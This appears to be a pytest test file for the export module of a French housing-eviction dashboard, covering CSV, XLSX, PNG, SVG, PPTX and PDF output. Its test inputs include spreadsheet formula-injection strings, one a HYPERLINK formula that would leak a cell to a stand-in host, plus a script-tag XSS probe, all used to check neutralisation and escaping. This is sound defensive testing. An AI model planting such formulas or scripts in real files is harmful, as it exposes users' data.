"""Exports: tables (CSV, XLSX), figures (PNG, SVG) and meeting decks (PPTX, PDF).

Files are checked by structure, re-opened with the library that reads them (openpyxl,
python-pptx) or by their header bytes, never by pixels. Figures come from small hand-made frames;
exports that need Chromium share the process's one kaleido browser (under 0.1 s a chart once warm).
"""

from __future__ import annotations

import datetime as dt
import io
import re
import shutil
import subprocess
import zipfile
from concurrent.futures import ThreadPoolExecutor

import geopandas as gpd
import kaleido
import numpy as np
import openpyxl
import pandas as pd
import plotly.graph_objects as go
import pytest
from pptx import Presentation
from pptx.enum.shapes import MSO_SHAPE_TYPE
from shapely.geometry import box

from data_access.french import fr_long_date
from figures.theme import apply_theme
from geo.maps import choropleth
from reporting import images
from reporting.pdf import AUTHOR, deck_html, deck_pdf, document_info
from reporting.pptx import FOOTER_NAME, badge_lines, deck_pptx, text_colour_on
from reporting.slides import Deck, Slide, slide_images, status_colour
from reporting.tables import DEMO_NOTICE, as_shown, csv_bytes, export_notes, formatted_table, neutralised, table_text
from reporting.xlsx import xlsx_bytes

needs_chromium = pytest.mark.skipif(
    not images.browser_path().is_file(), reason=f"Chromium absent ({images.browser_path()}) : « make chromium » l'installe"
)

# text a spreadsheet would run as a formula, one case per dangerous first character
INJECTIONS = [
    pytest.param('=HYPERLINK("http://x.example/?"&A1;"clic")', id="equals"),
    pytest.param("+33 1 23 45 67 89", id="plus"),  # a phone number typed without quotes is a formula too
    pytest.param("-2+3", id="minus"),
    pytest.param("@SUM(A1:A2)", id="at"),
    pytest.param("\t=1+1", id="tab"),
    pytest.param("\r=1+1", id="carriage-return"),
]


def bar_figure() -> go.Figure:
    return apply_theme(go.Figure(go.Bar(x=["Grenoble", "Vienne"], y=[544, 75], name="Assignations")), presentation=True)


def table(rows: int) -> pd.DataFrame:
    return pd.DataFrame(
        {
            "Commune": [f"Commune {i}" for i in range(rows)],
            "Assignations": np.arange(rows) * 1000 + 529,
            "Taux (%)": np.linspace(0, 50, rows),
        }
    )


def png_width(png: bytes) -> int:
    return images.png_size(png)[0]


def pdf_pages(pdf: bytes) -> int:
    """Page objects of a PDF (Chromium writes no object streams, so they are plain text)."""
    return len(re.findall(rb"/Type\s*/Page(?![s\w])", pdf))


# --- tables ------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", INJECTIONS)
def test_csv_neutralises_text_starting_with_a_formula_character(text: str) -> None:
    data = csv_bytes(pd.DataFrame({"Nom": [text], "Valeur": [-3]}))
    assert data.startswith("\ufeffNom;Valeur".encode())  # BOM, then the header: French Excel reads UTF-8
    back = pd.read_csv(io.BytesIO(data), sep=";", encoding="utf-8-sig")
    assert back["Nom"].tolist() == ["'" + text]  # the apostrophe makes a spreadsheet read the cell as text
    assert back["Valeur"].tolist() == [-3]  # a negative number stays a number


def test_csv_quotes_a_carriage_return_inside_a_cell() -> None:
    # unquoted, Excel would start a new row at the CR, and « =1+1 » would open it as a formula
    data = csv_bytes(pd.DataFrame({"Nom": ["Grenoble\r=1+1"], "Valeur": [1]}))
    assert data.decode("utf-8-sig").split("\r\n") == ["Nom;Valeur", '"Grenoble\r=1+1";1', ""]


def test_neutralised_leaves_numbers_dates_and_harmless_text_alone() -> None:
    frame = pd.DataFrame({"Nom": ["Grenoble", "-"], "Valeur": [-3.5, 2.0], "Mois": [dt.date(2024, 3, 1)] * 2})
    safe = neutralised(frame)
    assert safe["Nom"].tolist() == ["Grenoble", "'-"]
    assert safe["Valeur"].tolist() == [-3.5, 2.0]
    assert safe["Mois"].tolist() == [dt.date(2024, 3, 1)] * 2


def test_neutralised_also_covers_column_names_and_categories() -> None:
    frame = pd.DataFrame({"=cmd": pd.Categorical(["=1+1", "ok"])})
    safe = neutralised(frame)
    assert list(safe.columns) == ["'=cmd"]
    assert safe.iloc[:, 0].tolist() == ["'=1+1", "ok"]


def read_xlsx(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


@pytest.mark.parametrize("text", INJECTIONS)
def test_xlsx_stores_dangerous_text_as_text_never_as_formula(text: str) -> None:
    data = xlsx_bytes({"Feuille": pd.DataFrame({"Nom": [text], "Valeur": [-3]})})
    sheet = read_xlsx(data)["Feuille"]
    header = next(row for row in sheet.iter_rows() if row[0].value == "Nom")[0].row
    name, value = sheet.cell(header + 1, 1), sheet.cell(header + 1, 2)
    assert (name.value, name.data_type, name.quotePrefix) == (text, "s", True)
    assert (value.value, value.data_type) == (-3, "n")  # numbers stay numbers
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")  # no formula anywhere


def test_xlsx_reopens_with_sheets_header_values_and_french_formats() -> None:
    communes = pd.DataFrame(
        {
            "Commune": ["Grenoble", "Vienne"],
            "Assignations": [1529, 75],
            "Taux (%)": [12.5, np.nan],
            "Pour 1 000 ménages": [6.51, 5.05],
            "Mois": [dt.date(2024, 3, 1), dt.date(2024, 4, 1)],
        }
    )
    data = xlsx_bytes(
        {"Communes": communes, "Chaîne: 2024/T1": pd.DataFrame({"Étape": ["CQL"], "Nombre": [1313]})},
        title="CCAPEX plénière",
        source="ADIL 38",
        demo=True,
        exported=dt.date(2025, 12, 12),
    )
    book = read_xlsx(data)
    assert book.sheetnames == ["Communes", "Chaîne- 2024-T1"]  # « : » and « / » are not allowed in sheet names
    sheet = book["Communes"]
    assert [sheet.cell(r, 1).value for r in (1, 2, 3)] == ["CCAPEX plénière", "Source : ADIL 38. Exporté le 12/12/2025.", DEMO_NOTICE]
    assert [c.value for c in sheet[5]] == list(communes.columns)
    assert all(c.font.bold for c in sheet[5])
    assert sheet.freeze_panes == "A6"
    grenoble, vienne = sheet[6], sheet[7]
    assert [c.value for c in grenoble[:4]] == ["Grenoble", 1529, 0.125, 6.5]  # rounded to one decimal, as on screen
    assert grenoble[4].value == dt.datetime(2024, 3, 1)
    assert vienne[2].value is None  # a missing value is an empty cell
    assert [c.number_format for c in grenoble[1:5]] == ["#,##0", "0.0 %", "#,##0.0", "YYYY-MM"]  # all dates are 1sts: months
    assert sheet.column_dimensions["B"].width >= len("Assignations")


def test_xlsx_without_title_starts_with_the_date_note() -> None:
    sheet = read_xlsx(xlsx_bytes({"A": table(2)}, exported=dt.date(2025, 1, 2)))["A"]
    assert sheet["A1"].value == "Exporté le 02/01/2025."
    sheet = read_xlsx(xlsx_bytes({"A": table(2)}, source="Source : Insee.", exported=dt.date(2025, 1, 2)))["A"]
    assert sheet["A1"].value == "Source : Insee. Exporté le 02/01/2025."  # « Source » is not doubled
    assert [c.value for c in sheet[3]] == ["Commune", "Assignations", "Taux (%)"]


@pytest.mark.parametrize(
    ("sheets", "error", "match"),
    [
        ({}, ValueError, "au moins une feuille"),
        ({"A": [1, 2]}, TypeError, "doit être un DataFrame"),
    ],
)
def test_xlsx_rejects_bad_input_with_a_message(sheets: dict, error: type[Exception], match: str) -> None:
    with pytest.raises(error, match=match):
        xlsx_bytes(sheets)


def test_duplicate_and_long_sheet_names_are_made_unique() -> None:
    long = "Assignations pour 1 000 ménages par commune"
    book = read_xlsx(xlsx_bytes({long: table(1), long.upper(): table(1)}))
    assert book.sheetnames == [long[:31], long.upper()[:27] + " (2)"]


@pytest.mark.parametrize(
    ("header", "values", "shown"),
    [
        ("Valeur", [2732.0, np.nan], [2732, pd.NA]),  # a count stored as float: no « ,0 »
        ("Valeur", [536.5908045977011, 1.0], [536.6, 1.0]),  # one decimal, as fr_auto prints it
        ("Taux (%)", [46.400000000000006], [46.4]),
        ("Période complète", [True, False], ["Oui", "Non"]),
        ("Complet", pd.Series([True, None], dtype=object), ["Oui", None]),  # booleans with a gap
        ("Année", [2021.0, 2022.0], [2021, 2022]),
        ("Territoire", ["Isère", None], ["Isère", None]),
    ],
)
def test_as_shown_writes_values_as_the_screen_shows_them(header: str, values: list, shown: list) -> None:
    result = as_shown(pd.DataFrame({header: values}))[header].tolist()
    assert [None if pd.isna(v) else v for v in result] == [None if pd.isna(v) else v for v in shown]  # missing stays empty


def test_csv_notes_come_first_then_a_blank_line_then_the_table() -> None:
    data = csv_bytes(
        pd.DataFrame({"Année": ["2021"], "Valeur": [2732.0], "Taux (%)": [12.45], "Période complète": [True]}),
        title="-Assignations",  # a title that would be a formula keeps its quote
        filters="Isère — PALHDI 2014–2020 · Isère · 2021",
        unit="assignations",
        source="Source : Préfecture · Mise à jour : 24/11/2026",
        demo=True,
        exported=dt.date(2026, 12, 1),
    )
    lines = data.decode("utf-8-sig").split("\r\n")
    assert lines == [
        "'-Assignations",
        "Isère — PALHDI 2014–2020 · Isère · 2021",
        "Unité : assignations",
        "Source : Préfecture · Mise à jour : 24/11/2026. Exporté le 01/12/2026.",
        DEMO_NOTICE,
        "",
        "Année;Valeur;Taux (%);Période complète",
        "2021;2732;12,4;Oui",  # 12.45 is 12.4499… in binary: fr_number prints 12,4 too
        "",
    ]
    back = pd.read_csv(io.BytesIO(data), sep=";", decimal=",", encoding="utf-8-sig", skiprows=6)
    assert back.columns.tolist() == ["Année", "Valeur", "Taux (%)", "Période complète"]


def test_csv_writes_dates_months_and_decimals_as_a_french_spreadsheet_reads_them() -> None:
    frame = pd.DataFrame(
        {"Mois": [dt.date(2024, 3, 1)], "Jour": [dt.date(2024, 3, 15)], "Valeur": [-1234.56], "Entier": [7.0], "Année": [2024]}
    )
    assert csv_bytes(frame).decode("utf-8-sig").split("\r\n")[1] == "2024-03;15/03/2024;-1234,6;7;2024"


def test_export_notes_leave_out_what_is_not_given() -> None:
    assert export_notes(exported=dt.date(2026, 1, 5)) == [("source", "Exporté le 05/01/2026.")]
    assert [kind for kind, _ in export_notes(title="T", filters="F", unit="U", source="S", demo=True)] == [
        "title",
        "filters",
        "unit",
        "source",
        "demo",
    ]


def test_xlsx_writes_years_without_separator_booleans_in_words_and_the_filters() -> None:
    frame = pd.DataFrame({"Année": [2021, 2022], "Valeur": [1529.0, 75.0], "Période complète": [True, False]})
    data = xlsx_bytes({"Données": frame}, title="T", filters="Isère · 2021–2022", unit="assignations", exported=dt.date(2026, 1, 5))
    sheet = read_xlsx(data)["Données"]
    assert [sheet.cell(r, 1).value for r in (1, 2, 3, 4)] == ["T", "Isère · 2021–2022", "Unité : assignations", "Exporté le 05/01/2026."]
    first = sheet[7]
    assert [c.value for c in first] == [2021, 1529, "Oui"]
    assert [c.number_format for c in first[:2]] == ["0", "#,##0"]  # « 2021 », « 1 529 »


def test_formatted_table_writes_french_numbers_dates_and_booleans() -> None:
    frame = pd.DataFrame(
        {
            "Mois": [dt.date(2024, 3, 1), dt.date(2024, 4, 1)],
            "Jour": [dt.date(2024, 3, 15), None],
            "Valeur": [1529.0, np.nan],
            "Taux (%)": [12.5, 7.0],
            "Complet": [True, False],
        }
    )
    assert formatted_table(frame).values.tolist() == [
        ["mars 2024", "15/03/2024", "1\u202f529", "12,5", "oui"],
        ["avril 2024", "–", "–", "7,0", "non"],
    ]


def test_table_text_repeats_the_header_in_blocks_and_stops_at_max_rows() -> None:
    text = table_text(table(45), rows_per_block=20, max_rows=40)
    assert text.count("Commune | Assignations | Taux (%)") == 2
    assert "Lignes 21 à 40 sur 45" in text
    assert "… et 5 lignes de plus" in text
    assert table_text(pd.DataFrame()) == "Tableau : aucune donnée"


# --- slides: the neutral description ------------------------------------------------------------


@pytest.mark.parametrize(
    ("status", "colour"),
    [
        ("Objectif 2024 : non atteint", "#D55E00"),  # « non atteint » contains « atteint »: longest name first
        ("Atteint", "#009E73"),
        ("en retard", "#E69F00"),
        (None, "#666666"),
        # views.objective_tables.summary_status: the counts decide, not the word « atteints »
        ("Objectifs 2018 : 0 sur 14 atteints", "#D55E00"),  # none reached: « non atteint »
        ("Objectifs 2018 : 14 sur 14 atteints", "#009E73"),  # all: « atteint »
        ("Objectifs 2018 : 3 sur 14 atteints", "#E69F00"),  # some: « en retard »
        ("Objectifs 2018 : 1\u202f234 sur 1\u202f234 atteints", "#009E73"),  # fr_number's narrow no-break space
        ("Objectifs 2018 : 1 234 sur 1\u00a0235 atteints", "#E69F00"),  # a plain or a no-break space
        ("Objectifs 2018 : 0 sur 0 atteints", "#666666"),
        # views.common.objective_status_text: as before, the status named
        ("Objectifs 2018 : atteint (3 sur 3)", "#009E73"),
        ("Objectifs 2020 : 2 atteint, 1 non atteint", "#D55E00"),
    ],
)
def test_status_colour_follows_the_dashboard_palette(status: str | None, colour: str) -> None:
    assert status_colour(status) == colour


def test_slide_rejects_key_figures_that_are_not_text_pairs() -> None:
    with pytest.raises(TypeError, match="paires"):
        Slide("Assignations", key_figures=[("Assignations", 2696)])  # type: ignore[list-item]


def test_french_date_and_badge_lines() -> None:
    assert fr_long_date(dt.date(2025, 12, 1)) == "1er décembre 2025"
    assert badge_lines("Objectif 2024 : en retard") == ["Objectif 2024\u00a0:", "en retard"]
    assert badge_lines("Atteint") == ["Atteint"]
    assert text_colour_on("#E69F00") == "000000" and text_colour_on("#A63F00") == "FFFFFF"


# --- figures as images ----------------------------------------------------------------------------


@needs_chromium
def test_png_is_at_least_1920_pixels_wide_and_svg_is_svg() -> None:
    figure = bar_figure()
    assert images.png_size(images.figure_png(figure)) == (1920, 1080)
    assert png_width(images.figure_png(figure, width=960, height=540, scale=2)) == 1920
    assert images.figure_svg(figure).lstrip().startswith(b"<svg")
    assert images.is_running()


def legend_figure() -> go.Figure:
    """Two lines, their legend along the bottom edge (the theme's), an x-axis title."""
    figure = go.Figure([go.Scatter(x=[2021, 2022], y=[1529, 1480], name="Isère"), go.Scatter(x=[2021, 2022], y=[75, 80], name="Trièves")])
    return apply_theme(figure).update_xaxes(title_text="Année")


CONTEXT = {
    "title": "Assignations aux fins de résiliation du bail — Isère, 2021–2022",
    "filters": "Isère — PALHDI 2014–2020 · Isère · 2021–2022 · par année",
    "source": "Source : Préfecture (EXPLOC) · Mise à jour : 24/11/2026",
    "demo": True,
}


def test_framed_draws_the_context_on_a_copy_and_leaves_the_screen_figure_alone() -> None:
    screen = legend_figure()
    before = screen.to_json()
    copy = images.framed(screen, **CONTEXT)
    assert screen.to_json() == before  # the cached screen figure is untouched
    assert copy.layout.title.text == f"<b>{CONTEXT['title']}</b>"
    assert copy.layout.title.xref == "container" and copy.layout.title.x == 0  # from the image's left edge
    assert copy.layout.title.subtitle.text.split("<br>")[0] == CONTEXT["filters"]
    assert DEMO_NOTICE in copy.layout.title.subtitle.text
    (footer,) = [a for a in copy.layout.annotations if a.name == "cadre-source"]
    assert footer.text == CONTEXT["source"]
    assert (copy.layout.width, copy.layout.height) == (images.EXPORT_WIDTH, images.EXPORT_HEIGHT)
    # room above the plot for the title block, below the axes for the footer; the legend moved above the footer
    assert copy.layout.margin.t > screen.layout.margin.t + 2 * images.FRAME_TITLE_SIZE
    assert copy.layout.margin.b > screen.layout.margin.b + images.FRAME_SOURCE_SIZE
    assert copy.layout.legend.y * copy.layout.height >= images.FRAME_SOURCE_SIZE
    # the footer hangs from the plot's top edge down into the bottom band, inside the image
    top = copy.layout.margin.t
    footer_top = top - footer.yshift
    assert copy.layout.height - copy.layout.margin.b < footer_top + 1 + images.FRAME_PAD
    assert footer_top + images.FRAME_SOURCE_SIZE * images.FRAME_LINE <= copy.layout.height


def test_framed_without_demo_nor_source_says_neither() -> None:
    copy = images.framed(legend_figure(), **{**CONTEXT, "demo": False, "source": ""})
    assert DEMO_NOTICE not in (copy.layout.title.subtitle.text or "")
    assert not [a for a in copy.layout.annotations if a.name == "cadre-source"]


def test_framed_escapes_markup_and_wraps_a_long_title() -> None:
    copy = images.framed(legend_figure(), **{**CONTEXT, "title": "Taux < 5 % & plus " + "très long " * 20})
    assert "&lt; 5 % &amp; plus" in copy.layout.title.text
    assert copy.layout.title.text.count("<br>") >= 1


def test_framed_replaces_a_maps_own_title_and_keeps_its_subtitle(small_map: go.Figure) -> None:
    screen = go.Figure(small_map)
    screen.layout.title.subtitle.text = "Isère : 29,2 pour 1 000 ménages"
    copy = images.framed(screen, title="Assignations", filters="Isère · 2021", source="Source : Préfecture", demo=False)
    assert copy.layout.title.text == "<b>Assignations</b>"
    assert copy.layout.title.subtitle.text == "Isère · 2021<br>Isère : 29,2 pour 1\u202f000 ménages"  # « 1 000 » kept on one line
    screen.layout.margin.t = 200  # the room of a three-line title of its own: replaced, not added to
    taller = images.framed(screen, title="Assignations", filters="Isère · 2021", source="Source : Préfecture", demo=False)
    assert taller.layout.margin.t == copy.layout.margin.t


def svg_texts(svg: bytes) -> str:
    """Every text of an SVG, one line per ``<text>`` or ``<tspan>``, entities decoded, spaces normalised."""
    import html

    parts = re.findall(r"<(?:text|tspan)[^>]*>([^<]*)", svg.decode())
    return "\n".join(" ".join(html.unescape(part).replace("\u202f", " ").replace("\u00a0", " ").split()) for part in parts)


@needs_chromium
def test_framed_svg_and_png_carry_title_filters_source_and_demo_notice() -> None:
    texts = svg_texts(images.framed_svg(legend_figure(), **CONTEXT))
    for expected in (CONTEXT["title"], CONTEXT["filters"], CONTEXT["source"], DEMO_NOTICE):
        assert expected in texts
    assert images.png_size(images.framed_png(legend_figure(), **CONTEXT)) == (1920, 1080)


@needs_chromium
def test_threads_sharing_the_browser_each_get_their_own_image() -> None:
    # Streamlit runs each session in a thread: answers must not be swapped between callers
    widths = [1920, 2000, 2080, 2160]
    with ThreadPoolExecutor(max_workers=4) as pool:
        pngs = list(pool.map(lambda width: images.figure_png(bar_figure(), width=width, height=400), widths))
    assert [png_width(png) for png in pngs] == widths


@needs_chromium
def test_shutdown_closes_the_browser_and_the_next_export_starts_a_new_one() -> None:
    images.figure_png(bar_figure())
    images.shutdown()  # what atexit runs
    assert not images.is_running()
    assert png_width(images.figure_png(bar_figure())) == 1920
    assert images.is_running()


def test_png_narrower_than_1920_pixels_is_refused() -> None:
    with pytest.raises(ValueError, match="au moins 1920"):
        images.figure_png(bar_figure(), width=1280, scale=1)


def test_missing_chromium_is_an_error_that_says_what_to_do(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(images, "_renderer", None)  # as in a fresh process
    monkeypatch.setenv("BROWSER_PATH", "/nonexistent/chromium")
    with pytest.raises(images.ExportError, match="BROWSER_PATH"):
        images.figure_png(bar_figure())


@pytest.fixture(scope="module")
def small_map() -> go.Figure:
    """Two square « communes » near Grenoble, drawn by the geo module (SVG, no base map)."""
    layer = gpd.GeoDataFrame(
        {"code": ["38185", "38151"]}, geometry=[box(5.70, 45.15, 5.75, 45.20), box(5.75, 45.10, 5.80, 45.15)], crs="EPSG:4326"
    )
    values = pd.DataFrame({"territory_code": ["38185", "38151"], "name": ["Grenoble", "Échirolles"], "rate": [6.5, 7.5]})
    return choropleth(layer, values, value_column="rate", unit="pour 1 000 ménages", title="Assignations", height=500)


@pytest.fixture(scope="module")
def labelled_map() -> go.Figure:
    """Two named « territoires », one selected, under the département's outline."""
    layer = gpd.GeoDataFrame(
        {"code": ["agglo", "porte"]}, geometry=[box(5.60, 45.10, 5.80, 45.30), box(5.00, 45.50, 5.30, 45.70)], crs="EPSG:4326"
    )
    values = pd.DataFrame(
        {"territory_code": ["agglo", "porte"], "name": ["Agglomération grenobloise", "Porte des Alpes"], "rate": [5.2, 3.1]}
    )
    outline = gpd.GeoSeries([box(4.90, 45.00, 5.90, 45.80)], crs="EPSG:4326")
    return choropleth(
        layer, values, value_column="rate", unit="pour 1 000 ménages", title="Assignations", labels=True, selected="agglo", outline=outline
    )


def _filled_share(png: bytes) -> float:
    """The share of a PNG's pixels that are not white."""
    from PIL import Image

    pixels = np.asarray(Image.open(io.BytesIO(png)).convert("L"))
    return float((pixels < 250).mean())


@needs_chromium
def test_a_map_exports_offline_to_png_vector_svg_and_pdf(labelled_map: go.Figure) -> None:
    assert labelled_map.data[0].type == "choropleth"  # the screen's own figure, exported as it is
    png = images.figure_png(labelled_map)
    assert png_width(png) == 1920
    assert len(png) > 10_000  # drawn, not an empty canvas
    svg = images.figure_svg(labelled_map)
    assert svg.count(b'class="choroplethlocation"') == 2 and b"<image" not in svg  # each territory a path, no raster
    assert _filled_share(png) < 0.5  # each square drawn as itself, not as the rest of the world (ring orientation)
    assert "Agglomération".encode() in svg and b"Porte des" in svg  # the names, as text
    assert b"http" not in svg.replace(b"http://www.w3.org", b"")  # nothing fetched: no font, tile or topology URL
    pdf = images.figure_pdf(labelled_map, width=960, height=540)
    assert pdf.startswith(b"%PDF") and pdf_pages(pdf) == 1


@needs_chromium
def test_a_map_exported_at_another_size_still_fills_its_box(small_map: go.Figure) -> None:
    # fitbounds: Plotly fits the territories to whatever box it draws them in, no zoom to refit
    assert images.refit_map(small_map, 300) is small_map
    svgs = [images.figure_svg(small_map, width=width, height=height) for width, height in ((1920, 1080), (960, 552))]
    assert all(svg.count(b'class="choroplethlocation"') == 2 for svg in svgs)


@needs_chromium
def test_the_page_is_reloaded_every_reload_every_figures_not_after_each(monkeypatch: pytest.MonkeyPatch) -> None:
    # kaleido 1.5 reloads the page (and its 4.6 MB plotly.js) after each figure: most of a chart's export time
    reloads = []
    reload = kaleido.Kaleido._return_kaleido_tab  # fails here if a kaleido upgrade renames the hook

    async def counted(self: kaleido.Kaleido, tab: object) -> None:
        reloads.append(tab)
        await reload(self, tab)

    monkeypatch.setattr(kaleido.Kaleido, "_return_kaleido_tab", counted)
    monkeypatch.setattr(images, "RELOAD_EVERY", 2)
    # four figures: two reloads whatever the count so far, and the third figure drawn in a reloaded page
    assert [png_width(images.figure_png(bar_figure())) for _ in range(4)] == [1920] * 4
    assert len(reloads) == 2


# --- decks ------------------------------------------------------------------------------------------


def deck(rows: int = 3, *, demo: bool = True) -> Deck:
    footer = "Source : ADIL 38 ; mise à jour le 15/11/2025"
    return Deck(
        title="CCAPEX plénière",
        subtitle="PALHDI de l'Isère 2014–2020 · séance du 12 décembre 2025",
        date=dt.date(2025, 12, 12),
        demo=demo,
        slides=[
            Slide(
                "Assignations par commune, 2024",
                bar_figure(),
                [("Assignations en 2024", "2\u202f696")],
                "Objectif 2024 : en retard",
                "Isère · 2024",
                footer,
                table(rows),
                demo,
            ),
            Slide(
                "Chaîne de la procédure, 2024",
                bar_figure(),
                [("CQL / assignations", "42,3 %")],
                None,
                "Isère · 2024",
                footer,
                table(2),
                demo,
            ),
        ],
        methods=["Ratios recalculés à partir des sommes.", "Contours : IGN Admin Express COG 2018."],
    )


@pytest.fixture(scope="module")
def pictures() -> list[bytes | None]:
    if not images.browser_path().is_file():
        pytest.skip("Chromium absent")
    return slide_images(deck())


def open_pptx(data: bytes):  # type: ignore[no-untyped-def]
    return Presentation(io.BytesIO(data))


@needs_chromium
def test_pptx_has_title_one_slide_per_view_its_table_and_methods(pictures: list[bytes | None]) -> None:
    prs = open_pptx(deck_pptx(deck(), images=pictures))
    slides = list(prs.slides)
    assert len(slides) == 1 + 2 * 2 + 1  # each view: its figure, then its table
    assert prs.slide_width / prs.slide_height == pytest.approx(16 / 9, rel=1e-3)
    assert DEMO_NOTICE in " ".join(s.text_frame.text for s in slides[0].shapes if s.has_text_frame)
    for index, view in enumerate(slides[1:-1]):
        pictures_on_slide = [s for s in view.shapes if s.shape_type == MSO_SHAPE_TYPE.PICTURE]
        tables = [s for s in view.shapes if s.has_table]
        assert (len(pictures_on_slide), len(tables)) == ((1, 0) if index % 2 == 0 else (0, 1))
        footer = next(s for s in view.shapes if s.name == FOOTER_NAME)
        assert footer.text_frame.text == "Source : ADIL 38 ; mise à jour le 15/11/2025"
    assert slides[2].shapes[0].text_frame.text == "Assignations par commune, 2024 (suite 2/2)"
    assert "Méthodes et sources" in slides[-1].shapes[0].text_frame.text


@needs_chromium
def test_pptx_key_figures_and_status_are_large_and_notes_hold_the_table(pictures: list[bytes | None]) -> None:
    view = list(open_pptx(deck_pptx(deck(rows=25), images=pictures)).slides)[1]
    assert "2\u00a0696" in " ".join(s.text_frame.text for s in view.shapes if s.has_text_frame)  # U+202F → U+00A0: every font has it
    sizes = {
        shape.name: [run.font.size.pt for p in shape.text_frame.paragraphs for run in p.runs]
        for shape in view.shapes
        if shape.name in ("Chiffres clés", "Statut de l'objectif")
    }
    assert sizes and all(size >= 24 for runs in sizes.values() for size in runs)
    notes = view.notes_slide.notes_text_frame.text
    assert "Commune | Assignations | Taux (%)" in notes
    assert "Commune 24 | 24\u00a0529 | 50,0" in notes  # the last row, formatted the French way
    assert "Lignes 21 à 25 sur 25" in notes  # paginated: the header is repeated every 20 rows


@needs_chromium
def test_deck_without_demo_data_says_nothing_about_demo(pictures: list[bytes | None]) -> None:
    prs = open_pptx(deck_pptx(deck(demo=False), images=pictures))
    texts = " ".join(s.text_frame.text for slide in prs.slides for s in slide.shapes if s.has_text_frame)
    assert DEMO_NOTICE not in texts


@needs_chromium
def test_pptx_reports_progress_for_each_figure_then_the_assembly() -> None:
    calls: list[tuple[int, int, str]] = []
    deck_pptx(deck(), progress=lambda done, total, label: calls.append((done, total, label)))
    assert [(done, total) for done, total, _ in calls] == [(0, 3), (1, 3), (2, 3), (3, 3)]
    assert calls[0][2] == "Figure 1 sur 2 : Assignations par commune, 2024"
    assert calls[-1][2] == "Terminé"


@needs_chromium
def test_slide_images_skip_slides_without_figure_and_report_progress() -> None:
    calls: list[tuple[int, int, str]] = []
    only_text = Deck("CCAPEX", slides=[Slide("Chiffres clés", key_figures=[("Assignations", "2 696")]), deck().slides[0]])
    pictures = slide_images(only_text, progress=lambda *call: calls.append(call))
    assert pictures[0] is None and pictures[1] is not None and png_width(pictures[1]) == 1920
    assert calls == [(0, 1, "Figure 1 sur 1 : Assignations par commune, 2024"), (1, 1, "Terminé")]


def test_images_must_match_the_slides() -> None:
    with pytest.raises(ValueError, match="une image par vue"):
        deck_pptx(deck(), images=[None])


def test_deck_html_escapes_text_and_repeats_table_headers() -> None:
    tiny_png = b"\x89PNG\r\n\x1a\n" + b"\x00" * 16
    hostile = Deck("<script>alert(1)</script>", slides=[Slide("A & B", bar_figure(), notes_table=table(2))])
    page = deck_html(hostile, [tiny_png])
    assert "<script>alert" not in page and "&lt;script&gt;" in page and "A &amp; B" in page
    assert "thead { display: table-header-group; }" in page and "<thead>" in page


def test_a_slide_without_figure_prints_its_table_on_its_own_page() -> None:
    """The bilan's chantier slides: key figures, then the table right under them (not a near-empty page, then « Données : »)."""
    chantier = Slide("Chantier 1 : suivi", key_figures=[("Fiches « engagée »", "3")], footer="Source : X", notes_table=table(2))
    with_figure = Slide("Assignations", bar_figure(), notes_table=table(2))
    page = deck_html(Deck("Bilan", slides=[chantier, with_figure]), [None, b"\x89PNG\r\n\x1a\n" + b"\x00" * 16])
    assert '<section class="view flow">' in page and page.count("<table>") == 2
    assert "Données : Chantier 1" not in page and "Données : Assignations" in page
    own = page[page.index('<section class="view flow">') : page.index("</section>", page.index('<section class="view flow">'))]
    assert "<thead>" in own and "Fiches « engagée »" in own and "Source : X" in own


@needs_chromium
def test_pdf_has_a_page_per_slide_and_long_tables_add_pages(pictures: list[bytes | None]) -> None:
    short = deck_pdf(deck(rows=3), images=pictures)
    long = deck_pdf(deck(rows=150), images=pictures)
    assert short.startswith(b"%PDF")
    assert pdf_pages(short) >= 1 + 2 + 1
    assert pdf_pages(long) >= pdf_pages(short) + 3  # 150 rows cannot fit on one page


@needs_chromium
@pytest.mark.skipif(shutil.which("pdftotext") is None, reason="pdftotext absent (paquet poppler-utils)")
@pytest.mark.parametrize("rows", [30, 44, 45, 120])
def test_a_long_table_is_continued_under_its_title_and_keeps_its_source_with_rows(rows: int, tmp_path) -> None:
    """Found looking at the 2018 bilan: continued pages had no title, and a three-line source
    could be printed alone on the last page (here 44 and 45 rows did, before the fix)."""
    partners = " ; ".join(f"Partenaire numéro {i} (service départemental)" for i in range(14))
    chantier = Slide(
        "Chantier 1 : suivi", key_figures=[("Fiches « engagée »", "3")], footer=f"Source : X · {partners}", notes_table=table(rows)
    )
    path = tmp_path / "deck.pdf"
    path.write_bytes(deck_pdf(Deck("Bilan", slides=[chantier]), images=[None]))
    text = subprocess.run(["pdftotext", "-layout", str(path), "-"], capture_output=True, check=True, text=True).stdout
    pages = [page for page in text.split("\f") if "Commune" in page]  # the table's pages (not the cover, nor the methods)
    assert len(pages) >= (2 if rows > 30 else 1)
    assert "Chantier 1 : suivi" in pages[0] and "(suite)" not in pages[0]
    for page in pages[1:]:
        assert "Chantier 1 : suivi (suite)" in page and "Assignations" in page  # title and header repeated
    source = [page for page in text.split("\f") if "Source : X" in page]
    assert len(source) == 1 and re.search(r"Commune \d+", source[0])  # the source line is never alone
    assert sum(len(re.findall(r"Commune \d+", page)) for page in pages) == rows  # no row lost nor repeated


def test_deck_html_says_its_language_author_and_subject() -> None:
    page = deck_html(Deck("Bilan annuel 2018", subtitle="PALHDI de l'Isère", slides=[Slide("Vue")]), [None])
    assert page.startswith('<!DOCTYPE html><html lang="fr">')
    assert f'<meta name="author" content="{AUTHOR}">' in page and '<meta name="description" content="PALHDI de l&#x27;Isère">' in page


def test_document_info_appends_an_incremental_update_and_leaves_other_pdfs_alone() -> None:
    printed = b"%PDF-1.4\n1 0 obj\n<</Creator (HeadlessChrome) /CreationDate (D:2026)>>\nendobj\nxref\n0 2\ntrailer\n<</Size 5\n/Root 4 0 R\n/Info 1 0 R>>\nstartxref\n42\n%%EOF\n"
    updated = document_info(printed, title="Bilan 2018 — Isère", subject="PALHDI")
    assert updated.startswith(printed)  # the printed bytes are kept as they are
    added = updated[len(printed) :]
    assert added.startswith(b"5 0 obj\n<</Title <FEFF")
    assert "Bilan 2018 — Isère".encode("utf-16-be").hex().upper().encode() in added and b"/CreationDate (D:2026)" in added
    assert b"/Root 4 0 R\n/Info 5 0 R\n/Prev 42>>" in added and added.endswith(b"%%EOF\n")
